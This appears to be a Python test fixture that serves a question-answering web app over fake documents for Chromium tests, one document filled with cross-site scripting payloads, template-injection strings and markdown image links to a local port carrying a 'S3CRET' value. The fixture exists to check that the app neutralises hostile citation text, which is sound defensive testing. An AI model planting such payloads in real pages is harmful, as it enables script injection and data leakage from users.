"""A page with prepared answers over documents in memory, one of them hostile; shared by the tests in Chromium."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Iterator
from pathlib import Path

from browsing import Site
from page_fakes import FakeLibrary, FakeTalk, abstention, answer, built, cite, document, serving

from qa.answer import Support

DATA = Path(os.environ.get("IBID_DATA", Path(__file__).parent.parent.parent / "shared"))

FILLER = "\n\n".join(
    f"Paragraph {i} speaks of caution, of patience and of the long road to spring." for i in range(60)
)
GENEVA = document(
    "# Ministers leave Geneva\n\n😀 They met on Friday by the lake.\n\n"
    f"{FILLER}\n\nMr Lavrov demanded a written answer.\nHe said he would wait a week.\n\n{FILLER}\n\nA reply was promised.",
    source="news/geneva.md",
    title="Ministers leave Geneva",
    date="2022-01-21",
    author="A. Reporter",
)
BERLIN = document(
    "The chancellor sent helmets. Kyiv called them a joke.", source="berlin.html", title="Berlin hesitates"
)
XSS_FILE = DATA / "badinput" / "payloads" / "xss.jsonl"
POISON = (
    [json.loads(line)["payload"] for line in XSS_FILE.read_text(encoding="utf-8").splitlines()]
    if XSS_FILE.exists()
    else [
        "<img src=x onerror=window.__xss=1>",
        "<script>window.__xss=1</script>",
        "[c](javascript:window.__xss=1)",
    ]
) + [
    "![a](http://127.0.0.1:9911/x?q=S3CRET)",
    "<img src=http://127.0.0.1:9911/x>",
    "${window.__xss=1}",
    "{{constructor}}",
]
HOSTILE = document(
    "\n\n".join(POISON), source="<b>x</b>.html", title="<img src=x onerror=window.__xss=1> ${1} {{a}}"
)

DEMAND, NOTHING, SLOW, EVIL, BOTH = (
    "What did Lavrov demand?",
    "Who won?",
    "Take your time?",
    "Be evil?",
    "And the reply?",
)
QUOTE = "Mr Lavrov demanded a written answer.\nHe said he would wait a week."
FIRST = cite(GENEVA, QUOTE, 1, speaker="Sergey Lavrov")
SECOND = cite(BERLIN, "Kyiv called them a joke.", 2)
THIRD = cite(GENEVA, "A reply was promised.", 3)


@contextlib.contextmanager
def prepared(uploads: Path) -> Iterator[Site]:
    """The real application on a port of its own, over a library in memory."""
    library = FakeLibrary.of(GENEVA, BERLIN, HOSTILE)
    made = Site(address="", library=library)
    answers = {
        DEMAND: answer(DEMAND, (QUOTE, FIRST), (SECOND.quote, SECOND, Support.PARTIAL)),
        BOTH: answer(BOTH, (THIRD.quote, THIRD), (QUOTE, FIRST)),
        SLOW: answer(
            SLOW,
            (SECOND.quote, cite(BERLIN, SECOND.quote, 1)),
            ("It never comes.", cite(GENEVA, "They met", 2)),
        ),
        NOTHING: abstention(NOTHING, "No passage tells.", cite(BERLIN, "The chancellor sent helmets.", 1)),
        EVIL: answer(EVIL, *[(text, cite(HOSTILE, text, n)) for n, text in enumerate(POISON, start=1)]),
    }

    def converse() -> FakeTalk:
        made.talks.append(FakeTalk(answers, gates={SLOW: made.gate}))
        return made.talks[-1]

    app = built(library, converse=converse, examples=(DEMAND, NOTHING), uploads=uploads)
    with serving(app) as made.address:
        yield made
        made.gate.set()
